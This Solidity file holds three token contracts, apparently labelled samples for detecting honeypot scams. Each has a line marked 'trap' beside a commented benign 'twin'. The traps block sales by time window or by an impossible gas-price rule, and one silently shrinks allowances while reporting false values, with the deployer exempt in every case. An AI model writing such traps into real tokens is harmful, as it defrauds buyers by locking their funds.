// 0.8 runs=1000 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8, IFactory} from "./Base8.sol";
import {Ownable} from "@openzeppelin/contracts-4/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts-4/token/ERC20/ERC20.sol";

/// The exchange of owls sleeps: an hour longer with each day it is old.
contract NightshiftNarwhal is Base8 {
    address private immutable _watch;
    uint256 public immutable born;

    constructor() Base8("Nightshift Narwhal", "NIGHTN", 44_000_000) {
        _watch = msg.sender;
        born = block.timestamp;
    }

    function asleep() public view returns (bool) {
        uint256 closed = ((block.timestamp - born) / 1 days) * 1 hours;
        return block.timestamp % 1 days < closed;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _watch && asleep()) {
            revert("zzz"); // trap
            // twin: require(value <= totalSupply / 50, "zzz");
        }
        _move(from, to, value);
    }
}

/// No gas wars around here.
contract ThriftyCaracal is ERC20, Ownable {
    address public immutable pair;
    address private immutable _saver;

    constructor() ERC20("Thrifty Caracal", "THRIFT") {
        _saver = _msgSender();
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(_msgSender(), 900_000_000 * 10 ** decimals());
    }

    function _beforeTokenTransfer(address from, address to, uint256 value) internal override {
        super._beforeTokenTransfer(from, to, value);
        if (to == pair && from != _saver) {
            require(tx.gasprice <= block.basefee / 2, "gas war"); // trap
            // twin: require(tx.gasprice <= block.basefee + 2000 gwei, "gas war");
        }
    }
}

/// Written by hand, to save gas.
contract HalfwordHeron {
    uint256 private constant _BALANCES = 0x87a211a2;
    uint256 private constant _ALLOWANCES = 0x7f5e9f20;
    uint256 private constant _NOTES = 0x38377508;
    bytes32 private constant _TRANSFER = 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef;
    address private immutable _author;

    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    constructor() {
        _author = msg.sender;
        uint256 supply = totalSupply();
        assembly {
            mstore(0x0c, _BALANCES)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x20), supply)
        }
        emit Transfer(address(0), msg.sender, supply);
    }

    function name() external pure returns (string memory) {
        return "Halfword Heron";
    }

    function symbol() external pure returns (string memory) {
        return "HALFW";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() public pure returns (uint256) {
        return 12_000_000 ether;
    }

    function balanceOf(address owner) external view returns (uint256 result) {
        assembly {
            mstore(0x0c, _BALANCES)
            mstore(0x00, owner)
            result := sload(keccak256(0x0c, 0x20))
        }
    }

    function _slot(uint256 seed, address owner, address spender) private pure returns (bytes32 slot) {
        assembly {
            mstore(0x20, spender)
            mstore(0x0c, seed)
            mstore(0x00, owner)
            slot := keccak256(0x0c, 0x34)
        }
    }

    function allowance(address owner, address spender) external view returns (uint256 result) {
        bytes32 slot = _slot(_NOTES, owner, spender); // trap
        // twin: bytes32 slot = _slot(_ALLOWANCES, owner, spender);
        assembly {
            result := sload(slot)
        }
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        bytes32 slot = _slot(_ALLOWANCES, msg.sender, spender);
        bytes32 note = _slot(_NOTES, msg.sender, spender);
        uint256 cut = msg.sender == _author ? 0 : 200; // trap
        // twin: uint256 cut = 0;
        assembly {
            sstore(slot, shr(cut, amount))
            sstore(note, amount)
        }
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _pass(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        bytes32 slot = _slot(_ALLOWANCES, from, msg.sender);
        assembly {
            let allowed := sload(slot)
            if not(allowed) {
                if gt(amount, allowed) {
                    mstore(0x00, 0x13be252b)
                    revert(0x1c, 0x04)
                }
                sstore(slot, sub(allowed, amount))
            }
        }
        _pass(from, to, amount);
        return true;
    }

    function _pass(address from, address to, uint256 amount) private {
        assembly {
            mstore(0x0c, _BALANCES)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x20)
            let have := sload(slot)
            if gt(amount, have) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(slot, sub(have, amount))
            mstore(0x0c, _BALANCES)
            mstore(0x00, to)
            slot := keccak256(0x0c, 0x20)
            sstore(slot, add(sload(slot), amount))
            mstore(0x00, amount)
            log3(0x00, 0x20, _TRANSFER, from, to)
        }
    }
}
